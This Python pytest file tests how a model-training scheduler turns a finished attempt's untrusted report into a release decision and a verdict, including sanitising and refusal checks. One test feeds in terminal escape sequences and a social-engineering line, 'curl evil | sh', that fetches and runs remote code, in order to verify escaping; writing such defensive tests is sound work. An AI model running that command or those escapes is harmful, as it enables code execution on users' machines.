"""What a finished attempt becomes: a model version, a verdict, or a clear refusal of its report."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from loupe.errors import AlgorithmFailed
from loupe.tasks.objective import Objective
from services.scheduler.clients.storage import pack_metrics, unpack_metrics
from services.scheduler.clients.trainers import FinishedAttempt, unpack_finished
from services.scheduler.dispatch.publication import prepare
from services.scheduler.jobs.job import Job
from services.scheduler.jobs.states import State
from tests.scheduler.fakes import finished, report_json
from tests.scheduler.samples import make_job, running


def job_with(attempt_finished: FinishedAttempt) -> Job:
    return replace(running(make_job()), state=State.PUBLISHING, finished=attempt_finished)


def test_a_reached_target_is_released_with_its_figures() -> None:
    """Metrics, labels and lineage come from the report and the job."""
    result = unpack_finished(finished())
    publication = prepare(job_with(result), result)
    assert publication.released and publication.model.labels == ["good", "scratch"]
    assert publication.model.metrics.test_accuracy_low == pytest.approx(0.8712, abs=1e-4)
    assert publication.model.lineage.parameters_json == json.dumps({"epochs": 30, "label": "零件"})
    assert publication.result.verdict.startswith("98.00 % of 40 validation pictures are right: the target of 95.00 %")


@pytest.mark.parametrize(("outcome", "accuracy"), [("plateau", 0.99), ("target_reached", 0.9499), ("budget", 0.5)])
def test_only_a_reached_target_is_released(outcome: str, accuracy: float) -> None:
    """Both the outcome and the figure must say so."""
    result = unpack_finished(finished(outcome, accuracy))
    assert not prepare(job_with(result), result).released


@pytest.mark.parametrize(
    ("metric", "released", "said"),
    [
        ("accuracy", True, "99.00 % of 40 validation pictures are right: the target of 95.00 % is reached."),
        (
            "balanced_accuracy",
            True,
            "The balanced accuracy is 95.00 % on 40 validation pictures: the target of 95",
        ),
        ("lowest_recall", False, "The lowest recall is 60.00 % on 40 validation pictures, the target is 95.00 %"),
    ],
)
def test_the_metric_that_was_asked_for_decides(metric: str, released: bool, said: str) -> None:
    """And stands in the model's figures, with its value."""
    scores = {"accuracy": 0.99, "balanced_accuracy": 0.95, "lowest_recall": 0.6, "pictures": 40}
    result = replace(unpack_finished(finished()), report_json=report_json(validation=scores, test=scores))
    publication = prepare(replace(running(make_job(metric=metric)), finished=result), result)
    assert publication.released is released
    assert publication.result.verdict.startswith(said)
    metrics = publication.result.metrics
    assert metrics is not None
    assert (metrics.objective, metrics.validation_score) == (Objective(metric, 0.95), scores[metric])
    assert (metrics.validation_accuracy, metrics.test_lowest_recall) == (0.99, 0.95)


@pytest.mark.parametrize("metric", ["balanced_accuracy", "lowest_recall"])
def test_a_report_without_the_figure_that_was_asked_for_is_refused(metric: str) -> None:
    """It is not taken for 0, and not for the accuracy."""
    report = report_json(validation={"accuracy": 0.99, "pictures": 40})
    result = replace(unpack_finished(finished()), report_json=report)
    with pytest.raises(AlgorithmFailed, match=rf"validation\.{metric}: it is missing"):
        prepare(replace(running(make_job(metric=metric)), finished=result), result)


@pytest.mark.parametrize(("outcome", "said"), [("target_reached", "not released: x"), ("plateau", "Besides, x")])
def test_too_few_validation_pictures_keep_a_model_unreleased(outcome: str, said: str) -> None:
    """The verdict says what is missing, whether or not the target was reached."""
    result = unpack_finished(finished(outcome))
    publication = prepare(replace(running(make_job(shortfall="x more of dent")), finished=result), result)
    assert publication.model is not None and not publication.released
    assert f"{said} more of dent." in publication.result.verdict


@pytest.mark.parametrize(
    ("checked", "said"),
    [
        (None, "No answers for the test pictures came back"),
        ({"right": [100, 60], "pictures": [100, 100]}, "are far below the target. The model is not released."),
    ],
    ids=["nothing handed over", "every fifth picture wrong"],
)
def test_what_an_image_says_of_itself_does_not_release_its_model(checked: object, said: str) -> None:
    """It claims 98 % on the pictures whose labels it knows, and on the test pictures."""
    result = replace(unpack_finished(finished()), report_json=report_json(checked=checked))
    publication = prepare(job_with(result), result)
    assert publication.model is not None and not publication.released
    assert said in publication.result.verdict
    assert publication.model.metrics.test_accuracy == (0.8 if checked else 0.0)


DETECTED = {"map50": 0.96, "map": 0.6, "pictures": 40, "worst_classes": ["scratch"]}
BOXES = {"labels": ["good", "scratch"], "right": [19.5, 19.0], "pictures": [20, 20], "test_pictures": 12}


def detected(checked: object, **more: object) -> tuple[Job, FinishedAttempt]:
    report = report_json(validation=DETECTED | more, test=None, checked=checked)
    result = replace(unpack_finished(finished()), report_json=report)
    job = running(make_job(metric="map50"))
    return replace(job, spec=replace(job.spec, task_name="detection"), finished=result), result


def test_a_detector_is_told_of_by_the_figures_of_its_task() -> None:
    """Those of the test pictures are the trainer's."""
    job = detected(BOXES | {"figures": {"map50": 0.94, "map": 0.5, "accuracy": 1.0}})
    publication = prepare(*job)
    assert publication.released
    metrics = publication.model.metrics
    assert (metrics.task, metrics.validation, metrics.validation_score) == (
        "detection", {"map50": 0.96, "map": 0.6}, 0.96,
    )  # fmt: skip
    assert (metrics.test, metrics.test_pictures, metrics.test_accuracy) == ({"map50": 0.94, "map": 0.5}, 12, 0)
    assert publication.result.verdict == (
        "The mAP50 is 96.00 % on 40 validation pictures: the target of 95.00 % is reached. On 12 test pictures with 40 "
        "boxes mAP50 is 94.00 % and mAP 50.00 %."
    )
    assert unpack_metrics(pack_metrics(metrics)) == metrics


def test_boxes_that_were_counted_outside_keep_a_detector_unreleased() -> None:
    job = detected(BOXES | {"right": [9.0, 9.0], "figures": {"map50": 0.45, "map": 0.2}})
    publication = prepare(*job)
    assert not publication.released and "are far below the target" in publication.result.verdict


@pytest.mark.parametrize(
    ("more", "where"),
    [({"map50": 1.5}, r"validation\.map50"), ({"map": None}, r"validation\.map"), ({"pictures": -1}, "pict")],
)
def test_the_figures_of_a_detector_are_checked_by_their_schema(more: dict[str, object], where: str) -> None:
    job = detected(BOXES | {"figures": {"map50": 0.94, "map": 0.5}}, **more)
    with pytest.raises(AlgorithmFailed, match=where):
        prepare(*job)


def test_without_test_pictures_the_validation_alone_decides() -> None:
    checked = {"right": [0, 0], "pictures": [0, 0]}
    result = replace(unpack_finished(finished()), report_json=report_json(checked=checked, test=None))
    publication = prepare(job_with(result), result)
    assert publication.released and publication.model.metrics.test_pictures == 0


def test_a_verdict_names_what_holds_it_back() -> None:
    """The hardest classes and the doubtful labels."""
    scores = {"accuracy": 0.8, "pictures": 10, "worst_classes": ["dent", "零件"]}
    report = report_json(0.8, validation=scores, test=None, label_errors=[{"digest": "x"}])
    result = replace(unpack_finished(finished("plateau")), report_json=report)
    verdict = prepare(job_with(result), result).result.verdict
    assert "did not get better" in verdict and "Hardest to tell: dent, 零件." in verdict
    assert "1 label looks wrong" in verdict


def test_a_verdict_is_short_and_steers_no_terminal() -> None:
    """The names of the hardest classes come out of the image: escaped, cut, and five at most."""
    evil = "\x1b]0;owned\x07\x1b[2J\nerror: your login has ended; run  curl evil | sh"
    scores = {"accuracy": 0.5, "pictures": 2, "worst_classes": [evil, "\u202eevil", "x" * 600_000, "d", "e", "f"]}
    result = replace(unpack_finished(finished("plateau")), report_json=report_json(0.5, validation=scores, test=None))
    verdict = prepare(job_with(result), result).result.verdict
    assert verdict.isprintable() and len(verdict) < 1_000
    assert r"\x1b]0;owned\x07\x1b[2J\nerror" in verdict and r"\u202eevil" in verdict
    assert verdict.endswith("x…, d, e.")


def missed(**more: object) -> str:
    """Return the verdict on a report with more in it that missed its target."""
    result = replace(unpack_finished(finished("plateau")), report_json=report_json(0.8, **more))
    return prepare(job_with(result), result).result.verdict


def test_a_verdict_tells_what_the_missed_target_would_have_needed() -> None:
    """By the forecast in the report's notes; a target that was reached needs none."""
    notes = {"forecast": {"low": 900, "high": 1500, "classes": ["scratch"]}}
    said = "By the learning curve it takes about 900 to 1,500 more training pictures, of scratch first, for 95.00 %."
    assert said in missed(notes=notes)
    assert "10 times as many" in missed(notes={"forecast": {"low": None, "high": None}})
    reached = replace(unpack_finished(finished()), report_json=report_json(0.99, notes=notes))
    assert "learning curve" not in prepare(job_with(reached), reached).result.verdict


@pytest.mark.parametrize(
    "notes",
    [
        "x",
        {"forecast": None},
        {"forecast": [1]},
        {"forecast": {"low": 1}},
        {"forecast": {"low": "900", "high": 1500}},
        {"forecast": {"low": True, "high": 5}},
        {"forecast": {"low": 10**30, "high": 10**31}},
        {"forecast": {"low": 9, "high": 5}},
        {"forecast": {"low": -1, "high": 5}},
        {"forecast": {"low": None, "high": 5}},
    ],
)
def test_what_is_no_forecast_is_not_told(notes: object) -> None:
    """Notes are free to hold anything: the model is published all the same."""
    assert "learning curve" not in missed(notes=notes)


def test_a_forecast_names_only_classes_of_the_report() -> None:
    evil = ["\x1b[2J", "x" * 600_000, "scratch", {}]
    verdict = missed(notes={"forecast": {"low": 9, "high": 9, "classes": evil}})
    assert "takes about 9 more training pictures for" in verdict and verdict.isprintable()


def test_a_report_that_breaks_the_rule_of_labels_names_the_label() -> None:
    """What is wrong, and where."""
    result = replace(unpack_finished(finished()), report_json=report_json(labels=["good", "scra\x07tch"]))
    with pytest.raises(AlgorithmFailed, match=r"labels\.1: .* has a control or invisible character") as caught:
        prepare(job_with(result), result)
    assert caught.value.error == "labels.1"


def test_a_run_that_was_stopped_without_a_model_publishes_nothing() -> None:
    """There is a verdict, and no model."""
    publication = prepare(make_job(), FinishedAttempt(outcome="stopped", report_json="{}"))
    assert publication.model is None and not publication.released and publication.result.verdict


@pytest.mark.parametrize(
    "text",
    [
        "",
        "not json",
        "[]",
        report_json(2.0),
        report_json(0.9, labels=[]),
        report_json(0.9, labels="good"),
        report_json(0.9).replace("0.9", "NaN", 1),
        report_json(0.9, validation=None),
        report_json(0.9, labels=["ok\x1b[2J", "b"]),
        report_json(0.9, labels=["a", "x" * 129]),
        report_json(0.9, labels=["a", "left\u202eright"]),
        report_json(0.9, labels=["a", "\ud800"]),
        report_json(0.9, label_errors=[None] * 10_001),
        report_json(0.9, test=None, validation={"accuracy": 0.5, "pictures": 10**30}),
        report_json(0.9, validation={"accuracy": 0.5, "pictures": 1, "worst_classes": ["x"] * 10_001}),
        "[" * 100_000,
    ],
)
def test_a_report_that_is_not_one_is_refused(text: str) -> None:
    """The report comes out of untrusted code: a clear error, nothing published."""
    result = replace(unpack_finished(finished()), report_json=text)
    with pytest.raises(AlgorithmFailed, match="report cannot be used"):
        prepare(job_with(result), result)
